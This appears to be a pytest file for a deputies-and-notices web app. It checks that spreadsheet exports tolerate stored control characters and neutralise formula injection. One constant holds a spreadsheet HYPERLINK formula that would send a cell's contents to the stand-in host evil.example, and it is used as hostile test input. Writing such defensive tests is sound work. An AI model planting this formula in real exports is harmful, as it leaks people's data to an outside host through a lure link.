"""Issue 8 items 14 and 15: every export survives what is stored, and hands staff no live formula."""
import io

import openpyxl

from api.notices.models import NoticeRecipient
from tests import factories
from tests.notices.conftest import URL, reply_slip

FORMULA = '=HYPERLINK("https://evil.example/?d="&C3,"请点击")'


def first_rows(data, sheet=None):
    book = openpyxl.load_workbook(io.BytesIO(data))
    rows = list((book[sheet] if sheet else book.active).iter_rows())
    return [[cell.value for cell in row] for row in rows], rows


def test_deputies_export_survives_control_characters_and_neutralises_formulas(admin):
    factories.deputy(code="X1", name="王五", employer="家中有事\u0007", title=FORMULA, sector="+86")
    response = admin.get("/api/v1/deputies/export")
    assert response.status_code == 200
    values, cells = first_rows(response.data)
    row = dict(zip(values[0], values[1], strict=True))
    assert row["工作单位"] == "家中有事\ufffd"
    assert row["职务"] == "'" + FORMULA and row["界别/行业"] == "'+86"
    assert all(cell.data_type != "f" for cell in cells[1])


def test_notice_export_survives_a_stored_control_character_and_neutralises_formulas(
    staff, publish_notice, as_deputy
):
    people = [factories.deputy(name=name) for name in ("王一", "王二")]
    notice = publish_notice(reply_slip=reply_slip())
    as_deputy(people[0]).get(f"{URL}/feed/{notice['id']}")
    # Stored before input was checked (or by any path that skips the schema): the export must still work.
    NoticeRecipient.update(reply_option="请假", reply_reason="家中有事\u0007").where(
        NoticeRecipient.deputy == people[0].id
    ).execute()
    NoticeRecipient.update(reply_option="请假", reply_reason=FORMULA).where(
        NoticeRecipient.deputy == people[1].id
    ).execute()
    response = staff.get(f"{URL}/{notice['id']}/export")
    assert response.status_code == 200
    values, cells = first_rows(response.data, "阅读与回执")
    reasons = {row[1]: row[6] for row in values[1:]}
    assert reasons == {"王一": "家中有事\ufffd", "王二": "'" + FORMULA}
    assert all(cell.data_type != "f" for row in cells for cell in row)


def test_a_reply_reason_with_a_control_character_is_refused_but_line_breaks_are_kept(
    publish_notice, as_deputy
):
    deputy = factories.deputy()
    notice = publish_notice(reply_slip=reply_slip())
    reader = as_deputy(deputy)
    refused = reader.put(f"{URL}/feed/{notice['id']}/reply", json={"option": "请假", "reason": "家中有事\u0007"})
    assert refused.status_code == 422 and refused.get_json()["errors"] == {"reason": ["不能包含控制字符。"]}
    kept = reader.put(f"{URL}/feed/{notice['id']}/reply", json={"option": "请假", "reason": "家中有事\r\n下周补"})
    assert kept.status_code == 200, kept.get_json()
    assert NoticeRecipient.get(NoticeRecipient.deputy == deputy.id).reply_reason == "家中有事\n下周补"
